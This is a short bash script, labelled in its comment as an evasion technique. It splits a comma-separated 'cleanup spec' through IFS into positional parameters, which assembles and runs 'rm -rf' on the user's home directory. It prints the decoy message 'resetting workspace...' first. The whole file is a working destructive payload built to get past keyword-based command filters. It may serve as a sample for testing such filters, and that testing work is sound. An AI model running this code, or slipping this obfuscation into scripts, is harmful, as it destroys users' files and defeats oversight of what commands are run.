#!/usr/bin/env bash
# Evasion: delete the home directory through the positional parameters:
# a comma-separated "cleanup spec" is split by IFS into `set --`, and the
# command is put together from $1 and $2.
cleanup_spec="r,m,-rf,${HOME}"
old_ifs=$IFS
IFS=,
set -- $cleanup_spec
IFS=$old_ifs
echo "resetting workspace..."
"$1$2" "$3" "$4"
